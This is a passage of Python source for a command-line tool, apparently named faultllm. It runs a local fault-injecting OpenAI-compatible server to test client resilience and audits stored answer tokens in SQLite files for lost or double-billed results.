    with open(path, encoding="utf-8") as f:
        return [json.loads(line) for line in f if line.strip()]


def tokens_in_db(path):
    """Every answer token stored anywhere in an SQLite file -> number of cells that hold it."""
    found = {}
    con = sqlite3.connect(pathlib.Path(path).resolve().as_uri() + "?mode=ro", uri=True)
    con.text_factory = bytes
    try:
        tables = [r[0].decode() for r in con.execute(
            "select name from sqlite_master where type='table' and sql not like 'create virtual%'")]
        for t in tables:
            q = '"' + t.replace('"', '""') + '"'
            try:
                for row in con.execute(f"select * from {q}"):
                    for cell in row:
                        if isinstance(cell, bytes):
                            if cell[:2] == b"\x1f\x8b" or cell[:1] == b"\x78":
                                with contextlib.suppress(zlib.error):
                                    cell += zlib.decompressobj(47).decompress(cell, 16 << 20)
                            for m in set(TOKEN_RE.findall(cell)):
                                found[m.decode()] = found.get(m.decode(), 0) + 1
            except sqlite3.DatabaseError as e:
                print(f"faultllm: cannot read table {t}: {e}", file=sys.stderr)
    finally:
        con.close()
    return found


def tokens_in_path(path):
    found = {}
    files = [path] if os.path.isfile(path) else [os.path.join(d, f) for d, _, fs in os.walk(path) for f in fs]
    for f in files:
        with open(f, "rb") as fh:
            for m in set(TOKEN_RE.findall(fh.read())):
                found[m.decode()] = found.get(m.decode(), 0) + 1
    return found


def audit_db(records, db=None, scan=()):
    found = tokens_in_db(db) if db else {}
    for p in scan:
        for k, v in tokens_in_path(p).items():
            found[k] = found.get(k, 0) + v
    out = summarise(records)
    kept = [r for r in records if r["billed"] and r["usable"] and r["sent_full"]]
    lost = [r["token"] for r in kept if r["token"] not in found]
    known = {r["token"] for r in records}
    bad = [r["token"] for r in records if not r["sent_full"] and r["token"] in found]
    out.update(stored=len([t for t in found if t in known]), lost=len(lost), lost_tokens=lost[:20],
               stored_unknown=len([t for t in found if t not in known]), stored_though_cut=bad[:20])
    return out


# ---- command line ------------------------------------------------------------------------
def cmd_serve(a):
    scenario = json.load(open(a.scenario)) if a.scenario else None
    lat = [float(x) / 1000 for x in a.latency.split(":")] if a.latency else [0.0]
    srv = FaultServer(port=a.port, fault=a.fault, script=a.script.split(",") if a.script else None,
                      mix=parse_mix(a.mix) if a.mix else None, scenario=scenario, seed=a.seed, log=a.log,
                      api_key=a.api_key, latency=(lat[0], lat[-1]), heal_after=a.heal_after, text=a.text,
                      max_seconds=a.max_seconds, max_requests=a.max_requests, forbid_auth=a.forbid_auth)
    rc = 0

    def ready():
        info = {"url": srv.url, "port": srv.port, "pid": os.getpid(), "run": srv.run_id}
        print(json.dumps(info), flush=True)
        if a.port_file:
            with open(a.port_file + ".tmp", "w") as f:
                f.write(str(srv.port))
            os.replace(a.port_file + ".tmp", a.port_file)

    async def main():
        nonlocal rc
        loop = asyncio.get_running_loop()
        for s in (signal.SIGINT, signal.SIGTERM):
            loop.add_signal_handler(s, srv.stop)
        started = asyncio.Event()
        task = asyncio.create_task(srv.run(lambda: (ready(), started.set())))
        if a.exec:
            await started.wait()
            env = dict(os.environ, OPENAI_BASE_URL=srv.url, OPENAI_API_BASE=srv.url, FAULTLLM_URL=srv.url)
            env.setdefault("OPENAI_API_KEY", a.api_key or "sk-faultllm-test")
            proc = await asyncio.create_subprocess_exec(*a.exec, env=env)
            waiter = asyncio.create_task(proc.wait())
            await asyncio.wait({waiter, task}, return_when=asyncio.FIRST_COMPLETED)
            if not waiter.done():
                print("faultllm: time or request limit reached, stopping the command", file=sys.stderr)
                proc.terminate()
                with contextlib.suppress(asyncio.TimeoutError):
                    await asyncio.wait_for(waiter, 5)
                if proc.returncode is None:
                    proc.kill()
                    await waiter
            rc = proc.returncode
            srv.stop()
        await task

    asyncio.run(main())
    print(json.dumps(srv.summary()), file=sys.stderr if a.exec else sys.stdout, flush=True)
    return rc if rc >= 0 else 128 - rc


def cmd_audit(a):
    out = audit_db(load_log(a.log), a.db, a.scan or ())
    print(json.dumps(out, indent=1))
    fail = [f"{k}={out[k]} > {lim}" for k, lim in (("lost", a.max_lost), ("double_billed_extra", a.max_dup),
            ("after_permanent", a.max_after), ("retry_after_violations", a.max_ra)) if lim is not None and out[k] > lim]
    if fail:
        print("faultllm: FAIL " + "; ".join(fail), file=sys.stderr)
    return 1 if fail else 0


def cmd_kinds(a):
    for k, (b, u, what) in KINDS.items():
        print(f"{k:15} {'billed' if b else '-':7} {'usable' if u else '-':7} {what}")
    return 0


def cmd_selftest(a):
    """Send one request per kind with a raw socket; check that each ends in bounded time."""
    bad = []
    for kind in KINDS:
        with FaultServer(fault=kind, max_seconds=60) as s:
            body = json.dumps({"model": "m", "messages": [{"role": "user", "content": kind}]}).encode()
            c = socket.create_connection(("127.0.0.1", s.port), timeout=3)
            c.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer k\r\n"
                      b"Content-Length: %d\r\n\r\n" % len(body) + body)
            got = b""
            c.settimeout(0.4 if kind not in ("slow", "drip") else 2.5)
            try:
                while len(got) < 300000:
                    b = c.recv(65536)
                    if not b:
                        break
                    got += b
            except socket.timeout:
                pass
            except ConnectionError as e:
                got += b"<" + type(e).__name__.encode() + b">"
            c.close()
            time.sleep(0.05)
        if len(s.records) != 1 or s.records[0]["fault"] != kind:
            bad.append(kind)
        print(f"{kind:15} {got[:12]!r:18} {len(got):7} bytes  sent_full={s.records[0]['sent_full'] if s.records else None}")
    print("selftest:", "FAILED " + ", ".join(bad) if bad else f"{len(KINDS)} kinds ok")
    return 1 if bad else 0


def main(argv=None):
    argv = list(sys.argv[1:] if argv is None else argv)
    words = []
    if "--" in argv:
        i = argv.index("--")
        argv, words = argv[:i], argv[i + 1:]
    p = argparse.ArgumentParser(prog="faultllm", description="misbehaving OpenAI-compatible server (127.0.0.1 only)")
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve")
    s.add_argument("--port", type=int, default=0)
    s.add_argument("--port-file")
    s.add_argument("--log")
    s.add_argument("--fault")
    s.add_argument("--script")
    s.add_argument("--mix")
    s.add_argument("--scenario")
    s.add_argument("--seed", type=int, default=0)
    s.add_argument("--heal-after", type=int, default=4)
    s.add_argument("--latency")
    s.add_argument("--api-key")
    s.add_argument("--text")
    s.add_argument("--forbid-auth", action="store_true")
    s.add_argument("--max-seconds", type=float, default=600)
    s.add_argument("--max-requests", type=int)
    s.add_argument("--exec", action="store_true", help="-- COMMAND ...: run it against this server")
    s.set_defaults(fn=cmd_serve)
    s = sub.add_parser("audit")
    s.add_argument("--log", required=True)
    s.add_argument("--db")
    s.add_argument("--scan", action="append")
    s.add_argument("--max-lost", type=int)
    s.add_argument("--max-dup", type=int)
    s.add_argument("--max-after", type=int)
    s.add_argument("--max-ra", type=int)
    s.set_defaults(fn=cmd_audit)
    sub.add_parser("kinds").set_defaults(fn=cmd_kinds)
    sub.add_parser("selftest").set_defaults(fn=cmd_selftest)
    a = p.parse_args(argv)
    if a.cmd == "serve":
        if bool(words) != a.exec:
            p.error("--exec needs a command after -- (and a command needs --exec)")
        a.exec = words
    return a.fn(a)


if __name__ == "__main__":
    sys.exit(main())
